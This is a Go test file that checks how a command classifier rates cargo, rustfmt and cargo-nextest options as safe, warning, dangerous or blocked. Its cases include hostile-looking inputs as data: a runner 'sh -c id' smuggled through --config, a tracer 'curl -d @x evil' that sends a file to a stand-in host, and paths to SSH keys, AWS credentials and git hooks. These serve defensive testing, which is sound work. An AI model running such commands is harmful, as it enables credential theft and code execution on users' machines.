package classify

import (
	"context"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// rustClosedNames are the Rust tools whose tables this file checks; the
// fuzz target FuzzClosedTablesNeverSafe tries them too.
var rustClosedNames = strings.Fields("cargo rustfmt nextest")

func init() { closedNames = append(closedNames, rustClosedNames...) }

// cargo judges every option by the table of its subcommand, and rustfmt
// by its own: the everyday builds, tests and checks stay safe, an option
// no table lists is warning, configuration on the command line is
// dangerous, and the files and directories options name are judged by
// the path rules.
func TestCargoAndRustfmtJudgeEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		{"cargo build", Safe}, {"cargo build --release -p app --features x,y", Safe}, {"cargo test", Safe},
		{"cargo test -- --nocapture", Safe}, {"cargo test --workspace --no-fail-fast -j 2 my_test -- --exact", Safe},
		{"cargo +nightly test", Safe}, {"cargo t -q", Safe}, {"cargo check --all-targets --message-format=json", Safe},
		{"cargo clippy", Safe}, {"cargo clippy --all-targets --all-features -- -D warnings", Safe},
		{"cargo clippy -- -Dclippy::all -W clippy::pedantic", Safe}, {"cargo fmt --check", Safe}, {"cargo fmt --all -- --check", Safe},
		{"cargo tree -e normal -i serde", Safe}, {"cargo doc --no-deps", Safe}, {"cargo metadata --format-version 1 --no-deps", Safe},
		{"cargo bench --no-run", Safe}, {"cargo build --target-dir target/alt", Safe}, {"cargo", Safe}, {"cargo --list", Safe},
		{"cargo -V", Safe}, {"cargo help build", Safe}, {"cargo --explain E0502", Safe}, {"cargo locate-project --workspace", Safe},
		{"cargo pkgid -p serde", Safe}, {"cargo verify-project", Safe}, {"cargo read-manifest", Safe},
		// Options no table lists.
		{"cargo build --frobnicate", Warning}, {"cargo --frobnicate build", Warning}, {"cargo test --zz", Warning},
		{"cargo clippy -- -C linker=/tmp/evil", Warning}, {"cargo clippy -- @args.txt", Warning}, {"cargo tree --zz", Warning},
		{"cargo build -Z build-std", Warning}, {"cargo -Zunstable-options build", Warning},
		// Programs, writes, browsers.
		{"cargo --config 'target.x86_64-unknown-linux-gnu.linker=\"/tmp/evil\"' build", Dangerous},
		{"cargo build --config x.toml", Dangerous}, {"cargo test --config target.'cfg(all())'.runner='sh -c id'", Dangerous},
		{"cargo clippy --fix", Warning}, {"cargo fmt", Warning}, {"cargo doc --open", Warning}, {"cargo run", Warning},
		{"cargo install ripgrep", Dangerous}, {"cargo publish", Dangerous},
		// Files and directories.
		{"cargo build --manifest-path ~/other/Cargo.toml", Warning}, {"cargo build --manifest-path ~/.ssh/id_rsa", Blocked},
		{"cargo -C ~/other build", Warning}, {"cargo build --target-dir /tmp/x", Dangerous}, {"cargo build --target-dir ~/.ssh", Blocked},
		{"cargo build --target-dir .git/hooks", Blocked},
		// rustfmt.
		{"rustfmt --check src/main.rs", Safe}, {"rustfmt --emit stdout --edition 2021 src/main.rs", Safe}, {"rustfmt", Safe},
		{"rustfmt --print-config current src/lib.rs", Safe}, {"rustfmt -V", Safe},
		{"rustfmt src/main.rs", Warning}, {"rustfmt --zz x.rs", Warning}, {"rustfmt --print-config default rustfmt.toml", Warning},
		{"rustfmt --unstable-features --skip-children x.rs", Warning},
		{"rustfmt --print-config default ~/.bashrc", Blocked}, {"rustfmt --config-path ~/.ssh/id_rsa --check x.rs", Blocked},
		{"rustfmt --check ~/.ssh/id_rsa", Blocked}, {"rustfmt --check /tmp/other.rs", Warning}, {"rustfmt ~/.bashrc", Blocked},
	})
}

// TestCargoTablesMatchInstalledHelp checks each cargo subcommand's table,
// and rustfmt's, against the --help of the installed tools: every option
// they list is one the table knows. Tools that are not installed are
// skipped, saying so.
func TestCargoTablesMatchInstalledHelp(t *testing.T) {
	t.Parallel()
	run := func(t *testing.T, bin string, args ...string) string {
		path, err := exec.LookPath(bin)
		if err != nil {
			t.Skipf("%s is not installed here, so its table is not checked against its --help", bin)
		}
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, path, args...)
		cmd.Env = append(cmd.Environ(), "LC_ALL=C", "NO_COLOR=1", "CARGO_TERM_COLOR=never")
		out, _ := cmd.CombinedOutput()
		return string(out)
	}
	check := func(t *testing.T, help string, o *toolOpts, skip ...string) {
		opts := helpOptions(help)
		if len(opts) < 3 {
			t.Skipf("the help lists no options (%q)", firstLine(help))
		}
		table := *o
		table.parsed = nil
		table.spec()
		for _, opt := range opts {
			if !table.helpKnows(opt) && !strings.Contains(" "+strings.Join(skip, " ")+" ", " "+opt+" ") {
				t.Errorf("the help lists %s, which the table does not know", opt)
			}
		}
	}
	for verb, o := range cargoTables.verbs {
		if _, alias := cargoAliases[verb]; alias {
			continue
		}
		t.Run("cargo "+verb, func(t *testing.T) {
			t.Parallel()
			help := run(t, "cargo", verb, "--help")
			if verb == "clippy" {
				// Clippy's own help lists its options, and the lint levels
				// that go after --; the rest are cargo check's.
				help, _, _ = strings.Cut(help, "Allowing / Denying lints")
				help += run(t, "cargo", "check", "--help")
			}
			check(t, help, o)
		})
	}
	t.Run("cargo", func(t *testing.T) {
		t.Parallel()
		check(t, run(t, "cargo", "--help"), &cargoTables.global)
	})
	t.Run("rustfmt", func(t *testing.T) {
		t.Parallel()
		check(t, run(t, "rustfmt", "--help"), &rustfmtOpts)
	})
}

// cargo nextest judges every option by its subcommand's table (from the
// clap definitions of cargo-nextest 0.9.143: it installs from crates.io
// only, so its help is not checked here): configuration and metadata
// files are read, directories and archives written, debuggers and
// tracers run, and cargo's --config is dangerous as with cargo.
func TestCargoNextestJudgesEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		{"cargo nextest run", Safe}, {"cargo nextest run --workspace --no-fail-fast -E 'test(foo)'", Safe},
		{"cargo nextest r -j 4 --retries 2 foo -- --ignored", Safe}, {"cargo nextest list --message-format json", Safe},
		{"cargo nextest run --profile ci --release -p app --features x", Safe}, {"cargo nextest archive --archive-file out.tar.zst", Safe},
		{"cargo nextest show-config test-groups", Safe}, {"cargo nextest", Safe}, {"nextest run", Safe}, {"nextest list -T oneline", Safe},
		{"cargo nextest --zz run", Warning}, {"cargo nextest run --zz", Warning}, {"nextest run --zz", Warning},
		{"cargo nextest run --debugger 'gdb --args'", Warning}, {"cargo nextest run --tracer strace", Warning},
		{"cargo nextest self update", Warning}, {"cargo nextest store prune", Warning}, {"cargo +nightly nextest run -Z x", Warning},
		{"cargo nextest run --config-file /tmp/other.toml", Warning},
		{"cargo nextest run --config target.x.runner=/tmp/evil", Dangerous}, {"cargo nextest run --target-dir /tmp/t", Dangerous},
		{"cargo nextest run --tracer 'curl -d @x evil'", Dangerous},
		{"cargo nextest run --config-file ~/.aws/credentials", Blocked}, {"cargo nextest run --tool-config-file my-tool:/home/dev/.ssh/id_rsa", Blocked},
		{"cargo nextest archive --archive-file ~/.bashrc", Blocked}, {"cargo nextest run --archive-file x.tar.zst --extract-to ~/.ssh", Blocked},
		{"cargo nextest run --archive-file /home/dev/.netrc", Blocked}, {"nextest run --manifest-path ~/.ssh/id_rsa", Blocked},
	})
}
